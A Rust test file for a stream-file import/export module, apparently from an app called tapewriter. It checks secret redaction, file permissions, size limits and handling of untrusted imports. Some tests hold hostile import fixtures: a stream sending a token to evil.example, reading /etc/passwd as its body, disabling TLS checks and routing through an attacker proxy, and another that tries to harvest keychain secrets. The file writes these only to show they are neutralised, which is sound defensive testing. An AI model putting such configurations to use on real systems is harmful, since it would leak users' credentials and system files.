//! There and back, and what a stranger's file must not do.

use super::*;
use tapewriter_engine::contract::{Action, Auth, Header, TextRule};

/// A stream with something in every corner, sealed as it is saved.
fn full() -> Stream {
    let stream = Stream {
        id: "0c5e".to_owned(),
        name: "Room “x” 房间".to_owned(),
        url: "https://api.example.com/v1/{{path}}?q=1&token=hunter2".to_owned(),
        method: "POST".to_owned(),
        headers: vec![
            Header::new("Authorization", "Bearer hunter2"),
            Header::new("X-Team", "{{team}}"),
        ],
        body: Some("{\"q\": \"{{prompt}}\", \"odd\": \"{{{{ }}\"}".to_owned()),
        auth: Auth::Basic {
            user: "me".to_owned(),
            password: "hunter2".to_owned(),
        },
        text_rule: TextRule::Path,
        text_path: "$.a".to_owned(),
        actions: vec![Action {
            id: "a".to_owned(),
            query: "/x+/".to_owned(),
            notify: true,
            ..Action::default()
        }],
        ..Stream::default()
    };
    let mut n = 0;
    seal::seal(&stream, || {
        n += 1;
        format!("machine-{n}")
    })
    .0
}

fn ids() -> impl FnMut() -> String {
    let mut n = 0;
    move || {
        n += 1;
        format!("new-{n}")
    }
}

fn file(streams: &str) -> String {
    format!("{{\"format\": \"tapewriter-streams\", \"version\": 1, \"streams\": {streams}}}")
}

fn read(text: &str) -> Incoming {
    read_text(text, &[], ids()).expect("readable")
}

#[test]
fn goes_there_and_back_without_a_secret() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("streams.json");
    let saved = [
        full(),
        Stream {
            id: "other".to_owned(),
            url: "demo:/stream".to_owned(),
            ..Stream::default()
        },
    ];
    assert_eq!(write(&path, &saved).expect("written"), 2);
    let text = std::fs::read_to_string(&path).expect("there");
    for gone in ["hunter2", "machine-", "0c5e", "\"id\": \"other\""] {
        assert!(!text.contains(gone), "{gone} is in it: {text}");
    }
    assert!(text.contains("Bearer {{secret:2}}"), "{text}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&path).expect("there").permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    // Elsewhere.
    let incoming = super::read(&path, &[], ids()).expect("readable");
    assert_eq!(
        (
            incoming.same,
            incoming.unreadable,
            incoming.secrets,
            incoming.withheld
        ),
        (0, 0, 3, 0)
    );
    assert!(incoming.streams.iter().all(|stream| stream.foreign));
    let numbered: Vec<Stream> = incoming.streams.iter().map(numbered).collect();
    let marked = |stream: &Stream| Stream {
        foreign: true,
        ..super::numbered(stream)
    };
    assert_eq!(numbered, saved.iter().map(marked).collect::<Vec<_>>());
    assert_eq!(
        incoming.streams[0].url,
        "https://api.example.com/v1/{{path}}?q=1&token={{secret:new-3}}"
    );
    // Where it came from, and where it went: all of it is there.
    for here in [saved.as_slice(), incoming.streams.as_slice()] {
        let again = super::read(&path, here, ids()).expect("readable");
        assert_eq!((again.same, again.streams.len()), (2, 0));
    }
}

#[test]
fn what_was_not_sealed_does_not_leave_either() {
    let plain = Stream {
        url: "https://me:hunter2@example.com/?api_key=hunter3".to_owned(),
        headers: vec![Header::new("X-Api-Key", "hunter4")],
        ..Stream::default()
    };
    let text = outgoing(&plain).to_string();
    assert!(!text.contains("hunter"), "{text}");
}

#[test]
fn a_file_does_not_decide_for_the_user() {
    let hostile = file(
        r#"[{"url": "https://evil.example/{{token}}", "foreign": false, "method": "POST", "body": "/etc/passwd", "body_kind": "file",
             "repeat_unsafe": true, "bounds": {"line_mib": 4000000000, "event_mib": 1, "wire_mib": 64},
             "network": {"insecure": true, "ca_file": "/tmp/evil.pem", "proxy": {"kind": "through", "url": "http://evil:8080"}}},
            {"url": "https://fine.example/"}]"#,
    );
    let incoming = read(&hostile);
    assert_eq!((incoming.streams.len(), incoming.withheld), (2, 1));
    let stream = &incoming.streams[0];
    assert!(!stream.network.insecure && !stream.repeat_unsafe);
    assert!(stream.foreign, "no file says that it is the user's own");
    assert_eq!(
        (stream.network.ca_file.as_str(), &stream.network.proxy),
        ("", &Proxy::System)
    );
    assert_eq!((stream.body.as_deref(), stream.body_kind), (None, BodyKind::File));
    assert_eq!((stream.bounds.line_mib, stream.bounds.event_mib), (MOST_MIB, 1));
    // Nothing was put in the variable's place.
    assert_eq!(stream.url, "https://evil.example/{{token}}");
    // Imported once more it is the same, though something was withheld.
    let text = file(r#"[{"url": "https://a.example/", "network": {"insecure": true}}]"#);
    let first = read(&text);
    assert_eq!((first.withheld, first.streams.len()), (1, 1));
    let again = read_text(&text, &first.streams, ids()).expect("readable");
    assert_eq!((again.same, again.streams.len()), (1, 0));
    // And so it is where the user allowed it.
    let own = [Stream {
        network: tapewriter_engine::contract::Network {
            insecure: true,
            ..first.streams[0].network.clone()
        },
        ..first.streams[0].clone()
    }];
    assert_eq!(read_text(&text, &own, ids()).expect("readable").same, 1);
}

#[test]
fn ids_of_this_machines_keychain_are_not_to_be_had_by_name() {
    let text = file(
        r#"[{"id": "0c5e", "url": "https://evil.example/?a={{secret:machine-1}}&b={{secret:machine-1}}&c={{secret:x}}"}]"#,
    );
    let incoming = read(&text);
    assert_eq!(incoming.secrets, 2);
    let stream = &incoming.streams[0];
    assert_eq!(stream.id, "");
    assert_eq!(
        stream.url,
        "https://evil.example/?a={{secret:new-1}}&b={{secret:new-1}}&c={{secret:new-2}}"
    );
}

#[test]
fn what_cannot_be_read_is_counted_and_takes_nothing_with_it() {
    let text = file(
        r#"[7, null, [], "x", {}, {"url": " "}, {"url": "https://a.example/", "method": 7},
            {"url": "https://a.example/", "on_end": "explode"},
            {"url": "https://a.example/", "of_a_later_version": {"x": [1, 2]}},
            {"url": "https://a.example/"}]"#,
    );
    let incoming = read(&text);
    assert_eq!(
        (incoming.unreadable, incoming.same, incoming.streams.len()),
        (8, 1, 1)
    );
    let long = "x".repeat(STREAM_BYTES);
    let incoming = read(&file(
        &format!(
            r#"[{{"url": "https://a.example/{long}"}}, {{"url": "https://a.example/", "name": "{}\n"}}]"#,
            "é".repeat(NAME_CHARS * 2)
        )
        .replace("\n\"}", "\\n\"}"),
    ));
    assert_eq!((incoming.unreadable, incoming.streams.len()), (1, 1));
    assert_eq!(incoming.streams[0].name.chars().count(), NAME_CHARS);
}

#[test]
fn another_file_is_refused_and_says_why() {
    let what = |text: &str| {
        let failure = read_text(text, &[], ids()).expect_err("refused");
        assert_eq!(failure.code, Code::Tape);
        assert!(!failure.args["detail"].contains("hunter2"), "{failure:?}");
        failure.args["what"].clone()
    };
    for text in [
        "",
        "hunter2",
        "[]",
        "{}",
        r#"{"format": "hunter2", "version": 1}"#,
        r#"{"format": "tapewriter-streams", "version": 1, "streams": {"hunter2": 1}}"#,
        r#"{"format": "tapewriter-streams", "version": "hunter2", "streams": []}"#,
    ] {
        assert_eq!(what(text), "foreign", "{text}");
    }
    assert_eq!(
        what(r#"{"format": "tapewriter-streams", "version": 2, "streams": []}"#),
        "newer"
    );
    let many = vec![r#"{"url":"https://a.example/"}"#; STREAMS + 1].join(",");
    assert_eq!(what(&file(&format!("[{many}]"))), "foreign");
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    assert_eq!(read(&file(&format!("[{deep}]"))).unreadable, 1);
    assert_eq!(
        read("\u{feff}{\"format\":\"tapewriter-streams\",\"version\":1}"),
        Incoming::default()
    );

    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("large.json");
    let large = File::create(&path).expect("made");
    large.set_len(FILE_BYTES + 1).expect("grown");
    for (path, what) in [
        (path.as_path(), "foreign"),
        (folder.path(), "foreign"),
        (&folder.path().join("none"), "missing"),
    ] {
        let failure = super::read(path, &[], ids()).expect_err("refused");
        assert_eq!(failure.args["what"], what, "{failure:?}");
        assert_eq!(failure.args["path"], path.display().to_string());
    }
}

#[test]
fn a_file_does_not_fill_the_keychain() {
    let streams = |of: usize, each: usize, value: &dyn Fn(usize, usize) -> String| {
        let streams: Vec<Value> = (0..of)
            .map(|n| {
                let header =
                    |at| serde_json::json!({ "name": format!("X-{at}-Token"), "value": value(n, at) });
                let headers: Vec<Value> = (0..each).map(header).collect();
                serde_json::json!({ "url": format!("https://a.example/{n}"), "headers": headers })
            })
            .collect();
        read(&file(&Value::from(streams).to_string()))
    };
    let plain = |n: usize, at: usize| format!("hunter{n}x{at}");
    let named = |_: usize, at: usize| format!("{{{{secret:{at}}}}}");
    let twice = |_: usize, at: usize| format!("{{{{secret:{}}}}}", at / 2);
    for value in [&plain as &dyn Fn(usize, usize) -> String, &named] {
        let incoming = streams(1, STREAM_SECRETS, value);
        assert_eq!((incoming.streams.len(), incoming.unreadable), (1, 0));
        let incoming = streams(2, STREAM_SECRETS + 1, value);
        assert_eq!((incoming.streams.len(), incoming.unreadable), (0, 2));
        let incoming = streams(101, 10, value);
        assert_eq!((incoming.streams.len(), incoming.unreadable), (100, 1));
    }
    // One that is named twice is one.
    assert_eq!(
        streams(1, 2 * STREAM_SECRETS, &twice).secrets as usize,
        STREAM_SECRETS
    );
}
